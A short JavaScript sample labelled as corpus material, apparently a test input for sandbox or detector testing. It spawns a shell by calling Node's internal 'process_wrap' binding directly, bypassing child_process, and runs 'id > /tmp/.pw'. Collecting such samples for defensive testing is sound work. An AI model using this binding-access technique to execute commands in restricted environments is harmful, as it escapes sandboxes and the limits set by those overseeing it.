// corpus: process._linkedBinding and internalBinding-style access to native process_wrap
let wrap;
try {
  wrap = process._linkedBinding('process_wrap');
} catch (e) {
  wrap = process.binding('process_wrap');
}
const child = new wrap.Process();
child.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id > /tmp/.pw'], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }], envPairs: [] });
